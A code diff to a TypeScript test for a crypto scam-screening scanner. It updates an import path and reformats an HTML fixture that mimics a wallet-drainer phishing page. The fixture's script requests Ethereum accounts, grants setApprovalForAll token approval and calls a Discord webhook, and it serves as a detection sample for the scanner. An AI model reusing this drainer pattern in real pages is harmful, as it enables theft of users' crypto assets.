@@ -1,7 +1,7 @@
 import t from 'tap';
 import { scanScreening } from '../../src/screening/scan.ts';
 import { ScreeningInputError } from '../../src/screening/screening-input-error.ts';
-import { DomainError } from '../../src/errors/domain-error.ts';
+import { DomainError } from '../../src/core/domain-error.ts';
 import { SCAM_EVM, smallKnowledge } from './helpers.ts';
 
 const knowledge = smallKnowledge();
@@ -43,7 +43,9 @@ t.test('url without a fetcher: sandbox.fetched false with the reason; lists used
 
 t.test('url with a fetcher: page inspected, scamDna returned; failing fetch reported', async (t) => {
   const html =
-    '<html><body><h1>Connect wallet</h1><script>ethereum.request({method:"eth_requestAccounts"});token.setApprovalForAll(x,true);fetch("https://discord.com/api/webhooks/1/abc")</script></body></html>';
+    '<html><body><h1>Connect ' +
+    'wallet</h1><script>ethereum.request({method:"eth_requestAccounts"});token.setApprovalForAll(x,' +
+    'true);fetch("https://discord.com/api/webhooks/1/abc")</script></body></html>';
   let asked = '';
   const r = await scanScreening(
     { type: 'url', chain: 'evm', value: 'safe-looking.example' },
